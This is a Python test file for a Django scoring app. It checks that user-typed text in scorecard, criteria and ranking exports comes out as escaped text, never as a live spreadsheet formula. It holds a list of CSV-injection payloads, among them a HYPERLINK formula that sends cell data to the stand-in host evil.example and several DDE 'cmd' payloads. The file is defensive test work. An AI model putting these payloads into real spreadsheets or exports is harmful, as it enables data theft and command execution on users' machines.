"""Text typed by users comes out of every export as text, never as a live formula.

OWASP "CSV Injection": a cell starting with = + - @, a tab or a carriage return is run by the
spreadsheet. The scorecard, the criteria table and the ranking (xlsx and csv) all write user text.
"""

import csv
import io
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from campaigns import criteria_import
from campaigns.models import CriteriaTable, Criterion, ScoreLine
from campaigns.tests import review_helpers as h

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?d="&B2,"Xem")'
PAYLOADS = [
    LINK,
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cells(data: bytes):
    """Every non-empty cell of the first sheet, as openpyxl reads it back."""
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def _same(a, b) -> bool:
    # An XML parser may read a carriage return back as a line feed (the standard library's
    # does, lxml's keeps it): either is the text that was written.
    if isinstance(a, str) and isinstance(b, str):
        return a.replace("\r", "\n") == b.replace("\r", "\n")
    return a == b


def _cell(data: bytes, value):
    return next(cell for cell in _cells(data) if _same(cell.value, value))


def _assert_text(cell):
    assert cell.data_type == "s"
    assert cell.quotePrefix


def _get(client, user, name, *args):
    client.force_login(user)
    response = client.get(reverse(f"campaigns:{name}", args=args))
    assert response.status_code == 200
    return response.content


def test_a_formula_in_a_scorecard_note_is_exported_as_text(client, bloc_world):
    w = bloc_world
    table = h.make_table(w.term)
    period = h.make_period(w.term)
    card = h.make_cards(period, table, [w.a])[w.a]
    lines = list(ScoreLine.objects.filter(scorecard=card).order_by("pk"))
    for line, note in zip(lines, PAYLOADS, strict=False):
        line.self_note = note
        line.save(update_fields=["self_note"])
    data = _get(client, w.board, "scorecard_export", w.bloc.code, w.term.year, "annual", card.pk)
    for note in PAYLOADS[: len(lines)]:
        _assert_text(_cell(data, note))
    points = [c for c in _cells(data) if isinstance(c.value, int | float)]
    assert points and all(c.data_type == "n" for c in points)


def test_a_formula_in_a_criterion_is_exported_as_text_and_reads_back_unchanged(client, bloc_world):
    w = bloc_world
    table = h.make_table(w.term)
    first = Criterion.objects.filter(table=table, kind=Criterion.Kind.SCORED).order_by("pk")[0]
    first.title = LINK
    first.guidance = "@SUM(1+1)*cmd|' /C calc'!A0"
    first.save(update_fields=["title", "guidance"])
    data = _get(client, w.board, "criteria_export", w.bloc.code, w.term.year, table.version)
    _assert_text(_cell(data, LINK))
    _assert_text(_cell(data, first.guidance))
    assert _cell(data, 25.0).data_type == "n"

    draft = CriteriaTable.objects.create(
        term=w.term, version=table.version + 1, title="Dự thảo", base_max=table.base_max
    )
    criteria_import.import_table(table=draft, data=data, by=w.secretariat)
    again = draft.criteria.get(code=first.code)
    assert (again.title, again.guidance) == (LINK, first.guidance)


@pytest.fixture
def ranked_with_a_formula(bloc_world):
    """A period whose first agency is named like a formula and ends below zero."""
    w = bloc_world
    w.a.name = LINK
    w.a.save(update_fields=["name"])
    table = h.make_table(w.term)
    period = h.make_period(w.term)
    zero = {code: "0" for code in ("1.1", "1.2", "2.1", "2.2", "T")}
    h.make_cards(period, table, points={w.a: {**zero, "TR": "5"}})
    return ("export_ranking", w.bloc.code, str(w.term.year), "annual")


def test_a_formula_in_an_agency_name_is_escaped_in_the_ranking_csv(ranked_with_a_formula):
    out = io.StringIO()
    call_command(*ranked_with_a_formula, "--format", "csv", stdout=out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue().lstrip("\ufeff"))))
    mine = next(r for r in rows if LINK in r["agency"])
    assert mine["agency"] == "'" + LINK
    assert mine["total"] == "-5.00" and mine["penalty"] == "5.00"
    numbers = ("rank", "base", "bonus", "penalty", "total")
    assert all(not r[k].startswith("'") for r in rows for k in numbers)


def test_a_formula_in_an_agency_name_is_text_in_the_ranking_xlsx(ranked_with_a_formula, tmp_path):
    path = tmp_path / "xep-hang.xlsx"
    call_command(
        *ranked_with_a_formula, "--format", "xlsx", "--output", str(path), stderr=io.StringIO()
    )
    data = path.read_bytes()
    _assert_text(_cell(data, LINK))
    assert _cell(data, -5).data_type == "n"


def test_the_ranking_json_keeps_names_as_typed(ranked_with_a_formula):
    out = io.StringIO()
    call_command(*ranked_with_a_formula, "--format", "json", stdout=out)
    assert '"agency": "=HYPERLINK' in out.getvalue()


@pytest.mark.parametrize("value", PAYLOADS)
def test_every_formula_start_is_escaped_in_csv(value):
    from khoithidua.spreadsheets import csv_value

    assert csv_value(value) == "'" + value


@pytest.mark.parametrize("value", ["Sở Tài chính", "5 - 3", "", None, -5, Decimal("-5.00"), 0])
def test_plain_text_and_numbers_are_left_alone(value):
    from khoithidua.spreadsheets import csv_value

    assert csv_value(value) == value
